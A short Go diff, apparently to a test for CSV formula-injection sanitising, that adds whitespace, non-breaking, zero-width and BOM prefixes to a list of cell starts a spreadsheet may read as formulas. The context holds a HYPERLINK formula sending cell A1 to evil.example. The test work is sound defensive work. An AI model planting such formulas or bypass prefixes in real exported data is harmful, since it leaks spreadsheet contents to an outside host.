@@ -11,7 +11,7 @@ import (
 // runs are the beginnings of cells that a spreadsheet treats as a formula or removes
 // before it checks again (OWASP, CSV Injection). In many countries a semicolon
 // separates cells.
-var runs = []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "a;=", "a; +", "a,@", "a|-", "a\t="}
+var runs = []string{"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t=", "\r\n=", "a;=", "a; +", "a,@", "a|-", "a\t=", " =", "  \t +", " \t-", " @", "\u00a0=", "\u3000=", "\ufeff+", "\u200b@"}
 
 const formula = `HYPERLINK("https://evil.example/?"&A1,"ok")`
 
